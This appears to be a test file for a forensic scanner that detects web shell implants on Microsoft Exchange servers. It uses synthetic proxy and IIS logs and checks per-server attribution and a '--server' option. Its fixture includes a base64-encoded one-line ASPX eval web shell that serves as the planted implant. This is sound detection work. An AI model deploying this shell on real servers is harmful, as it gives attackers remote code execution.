// Several servers in one folder: what lies on each is said of each.

import { describe, expect, test } from 'vitest';
import { join } from 'node:path';
import { postern } from './commands.ts';
import { evidenceFolder, plainCase, scanPaths, verdictsOf } from './scanning.ts';

const proxyLog = (host: string): string =>
  [
    '#Software: Microsoft Exchange Server',
    '#Version: 15.01.2106.002',
    '#Log-type: HttpProxy Logs',
    '#Date: 2021-03-03T00:00:00.000Z',
    '#Fields: DateTime,RequestId,Protocol,UrlStem,ClientIpAddress,ServerHostName,HttpStatus,AnchorMailbox',
    `2021-03-03T00:00:01.000Z,9a3c7d7e-0001-4000-8000-00000000000${host.at(-1)},Ecp,/ecp/default.aspx,198.51.100.7,${host},302,`,
    '',
  ].join('\r\n');
const proxyPath =
  'C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030300-1.LOG';
/** A page that runs what a request tells it; encoded, so that no virus scanner takes the checkout for a victim. */
const shell = Buffer.from(
  'PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJrIl0sInVuc2FmZSIpOyU+',
  'base64',
);

describe('a page that one tool wrote to the same place of several servers', () => {
  const server = (host: string, isHit: boolean): [string, string | Uint8Array][] => [
    [`${host}/${proxyPath}`, proxyLog(host)],
    ...(isHit ? [[`${host}/C/inetpub/wwwroot/aspnet_client/x.aspx`, shell] as [string, Uint8Array]] : []),
  ];

  test('is a back door of each of them, and of no other', async () => {
    const files = new Map([...server('EX01', true), ...server('EX02', true), ...server('EX03', false)]);
    const { assessment } = await scanPaths([evidenceFolder(files)]);
    expect(verdictsOf(assessment)).toEqual([
      'ex01: compromised',
      'ex02: compromised',
      'ex03: undetermined, at least nothing-found',
    ]);
    const names = new Map(assessment.servers.map(({ id, names: [name] }) => [id, name]));
    expect(new Map(assessment.implants.map(({ server: id, url }) => [names.get(id), url]))).toEqual(
      new Map([
        ['ex01', '/aspnet_client/x.aspx'],
        ['ex02', '/aspnet_client/x.aspx'],
      ]),
    );
    expect(assessment.implants).toHaveLength(2);
    const paths = assessment.findings.flatMap(({ evidence }) =>
      evidence.map(({ source }) => assessment.coverage.sources.find(({ id }) => id === source)?.path),
    );
    expect(new Set(paths)).toEqual(
      new Set(['EX01/C/inetpub/wwwroot/aspnet_client/x.aspx', 'EX02/C/inetpub/wwwroot/aspnet_client/x.aspx']),
    );
  });
});

describe('--server', () => {
  const row = '2021-03-03 02:00:00 POST /aspnet_client/x.aspx 198.51.100.7 200\r\n';
  const log = `#Fields: date time cs-method cs-uri-stem c-ip sc-status\r\n${row}`;
  const folder = evidenceFolder(
    new Map([
      ['a/u_ex210303.log', log],
      ['ab/u_ex210303.log', log + row],
    ]),
  );
  const serversOf = async (
    places: Readonly<Record<string, string>>,
  ): Promise<ReadonlyMap<string, string | undefined>> => {
    const servers = new Map(Object.entries(places).map(([name, place]) => [name, [place]]));
    const { assessment } = await scanPaths([folder], { case: { ...plainCase, servers } });
    const names = new Map(assessment.servers.map(({ id, names: [name] }) => [id, name]));
    return new Map(assessment.coverage.sources.map(({ path, server }) => [path, names.get(server ?? '')]));
  };

  // "a" is not where "ab" lies.
  test.each(['ab', 'ab/', 'ab/u_ex210303.log', join(folder, 'ab'), `${folder}/ab/`])(
    'takes a place as the disk has it or from the evidence on: %s',
    async (place) => {
      expect(await serversOf({ EXB: 'a', EXA: place })).toEqual(
        new Map([
          ['a/u_ex210303.log', 'EXB'],
          ['ab/u_ex210303.log', 'EXA'],
        ]),
      );
    },
  );

  test('a place where nothing lies is said, not passed over', async () => {
    const { status, out, err } = await postern(['scan', folder, '--server', 'EXA=nowhere']);
    expect({ status, out }).toEqual({ status: 2, out: '' });
    expect(err).toMatch(
      /^error POSTERN_SCAN_SERVER_PATH {2}--server EXA\n {6}no file of the evidence lies at nowhere/,
    );
    expect(err).toContain('from the evidence on: a, ab');
  });
});
